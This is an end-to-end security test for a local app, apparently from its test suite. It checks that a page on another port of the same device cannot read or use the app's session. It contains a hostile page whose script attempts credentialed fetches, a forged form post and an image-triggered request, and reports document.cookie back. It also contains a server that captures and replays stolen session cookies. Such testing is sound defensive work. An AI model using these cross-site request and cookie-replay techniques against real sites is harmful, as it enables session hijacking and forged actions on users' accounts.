// A hostile page on another port of this device cannot use the app's session. Run with
// `clients/app/tests/run-e2e.sh`.
//
// Cookies ignore ports, and to a browser every port of 127.0.0.1 is the same site. So a second
// local HTTP server stands in for anything else a user runs or visits on this device (a dev server,
// another user's program): while the user is let into the app, the browser visits that server's
// page, which knows the app's address (the strongest case: it was leaked) and tries everything a
// page can: read the app's JSON, fire a change, post a form, embed it. The server records every
// cookie the browser sends it and replays any session cookie it gets from outside the browser.
// None of it may work. Then the launch link, used a second time in another browser, is refused.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import {
  DeviceApp, launchChromium, openApp, appRequest, waitFor, cleanWork,
} from './harness.mjs';

const SESSION = 'polyphony_session';
const app = new DeviceApp('sam');
let browser;
let hostile;

after(async () => {
  if (browser) await browser.close().catch(() => {});
  await app.stop();
  if (hostile) await new Promise((r) => hostile.server.close(r));
  if (!process.env.KEEP_E2E_WORK) cleanWork();
});

/** What the hostile page runs, against the app at `target` (no inline script in the app: here
 * it is the attacker's page, which may do as it likes). */
function hostilePage(target) {
  return `<!DOCTYPE html><html><head><title>Not the app</title></head><body>
<iframe name="sink" title="sink"></iframe>
<form id="f" method="post" action="${target}/cases" target="sink"><input name="name" value="Stolen Case"></form>
<img src="${target}/sync-now" alt="">
<script>
(async () => {
  const report = { cookie: document.cookie, attempts: [] };
  const attempt = async (what, fn) => {
    try { report.attempts.push({ what, result: await fn() }); }
    catch (e) { report.attempts.push({ what, error: String(e) }); }
  };
  await attempt('read status.json with credentials', async () => {
    const r = await fetch('${target}/status.json', { credentials: 'include' });
    return { status: r.status, body: (await r.text()).slice(0, 200) };
  });
  await attempt('no-cors GET /sync-now', async () => {
    const r = await fetch('${target}/sync-now', { credentials: 'include', mode: 'no-cors' });
    return { type: r.type };
  });
  await attempt('no-cors POST /cases', async () => {
    const r = await fetch('${target}/cases', {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'name=Stolen+Case',
    });
    return { type: r.type };
  });
  document.getElementById('f').submit();
  await new Promise((r) => setTimeout(r, 1500));
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();
</script></body></html>`;
}

/** The second local server: serves the hostile page, keeps every cookie sent to it, and replays
 * any app session cookie from outside the browser (a stolen cookie needs no browser). */
function startHostile() {
  const seen = { cookies: [], reports: [], replays: [] };
  const server = createServer((req, res) => {
    const cookie = req.headers.cookie || '';
    seen.cookies.push({ host: req.headers.host, url: req.url, cookie });
    const stolen = cookie.split(/;\s*/).find((c) => c.startsWith(`${SESSION}=`));
    if (stolen) {
      appRequest(app, '/status.json', { headers: { cookie: stolen } })
        .then((r) => seen.replays.push({ status: r.status }))
        .catch((e) => seen.replays.push({ error: String(e) }));
    }
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (c) => { body += c; });
      req.on('end', () => { seen.reports.push(JSON.parse(body)); res.end('ok'); });
      return;
    }
    const target = new URL(req.url, 'http://x').searchParams.get('app') || '';
    res.setHeader('content-type', 'text/html; charset=utf-8');
    res.end(hostilePage(target));
  });
  return new Promise((r) => server.listen(0, '127.0.0.1', () => r({ server, port: server.address().port, seen })));
}

/** Every answer to `page`'s requests to `base`, with its status, through the DevTools protocol. */
async function watchRequestsTo(context, page, base) {
  const seen = [];
  const sent = new Map();
  const cdp = await context.newCDPSession(page);
  await cdp.send('Network.enable');
  cdp.on('Network.requestWillBeSent', (e) => sent.set(e.requestId, { url: e.request.url, method: e.request.method }));
  cdp.on('Network.responseReceivedExtraInfo', (e) => {
    const r = sent.get(e.requestId);
    if (r && r.url.startsWith(base)) seen.push({ ...r, status: e.statusCode });
  });
  return seen;
}

test('a page on another port of this device cannot use the app session', { timeout: 10 * 60 * 1000 }, async (t) => {
  let A;

  await t.test('the user is let into the app', async () => {
    browser = await launchChromium();
    await app.start();
    A = await openApp(browser, app);
    await A.page.waitForURL(/\/enrol$/);
    const cookies = await A.context.cookies();
    assert.ok(cookies.some((c) => c.name === SESSION), 'the launch set the session cookie');
    hostile = await startHostile();
  });

  // Visited as the user might: by the loopback address, by `localhost`, and by another
  // `.localhost` name (the same site as the app's name, to the browser).
  for (const host of ['127.0.0.1', 'localhost', 'evil.localhost']) {
    await t.test(`a hostile page at ${host}:<another port> gets nothing and changes nothing`, async () => {
      const page = await A.context.newPage();
      // The statuses the app answered with, read from the network layer: the page itself sees
      // only failures (the app's responses are same-origin-only), which prove nothing.
      const toApp = await watchRequestsTo(A.context, page, app.base);
      const { seen } = hostile;
      const [reports, cookies, replays] = [seen.reports.length, seen.cookies.length, seen.replays.length];
      await page.goto(`http://${host}:${hostile.port}/?app=${encodeURIComponent(app.base)}`);
      await waitFor('the hostile page to report', () => seen.reports.length > reports, { timeout: 60000 });
      // The form post, the image and any replay settle: wait (up to 20 s, for a CI machine busy
      // with builds) until the app has answered the three requests the test is there to see, and
      // one second more for anything after them. A fixed second was too short once under load
      // (two of the three seen, both refused), which failed the run without any request served.
      await waitFor('the hostile requests to reach the app', () => toApp.length >= 3, { timeout: 20000 })
        .catch(() => {}); // the assertion below says what was seen
      await page.waitForTimeout(1000);
      const report = seen.reports.at(-1);
      await page.close();

      // Every way the session could have been used, gathered so a failure shows them all.
      const problems = [];
      const leaked = seen.cookies.slice(cookies).filter((c) => c.cookie.includes(`${SESSION}=`));
      if (leaked.length) problems.push({ 'the browser sent the session cookie to another port': leaked });
      const replayed = seen.replays.slice(replays).filter((r) => r.status !== 403);
      if (replayed.length) problems.push({ 'a replayed session cookie worked': replayed });
      if (report.cookie !== '') problems.push({ 'the page read cookies': report.cookie });
      const served = toApp.filter((r) => r.status !== 403);
      if (served.length) problems.push({ 'the app answered the hostile page': served });
      const read = report.attempts.find((x) => x.what.startsWith('read'));
      if (!read.error && read.result.status !== 403) problems.push({ 'the page read the app': read });
      assert.deepEqual(problems, []);
      assert.ok(toApp.length >= 3, `the page's requests reached the app: ${JSON.stringify({ toApp, report })}`);
    });
  }

  await t.test('the user still has the app, and nothing was changed', async () => {
    const status = await A.page.evaluate(async () => (await fetch('/status.json')).status);
    assert.equal(status, 200);
    const cookie = (await A.context.cookies()).map((c) => `${c.name}=${c.value}`).join('; ');
    const mine = await appRequest(app, '/status.json', { headers: { cookie } });
    assert.equal(mine.status, 200);
    assert.deepEqual(mine.json().cases, {}, 'no case was opened');
  });

  await t.test('the launch link, used again in another browser, is refused', async () => {
    const other = await browser.newContext();
    const page = await other.newPage();
    const res = await page.goto(app.url);
    assert.equal(res.status(), 403);
    await page.getByText('already been used').waitFor();
    assert.deepEqual((await other.cookies()).filter((c) => c.name === SESSION), []);
    await other.close();
  });
});
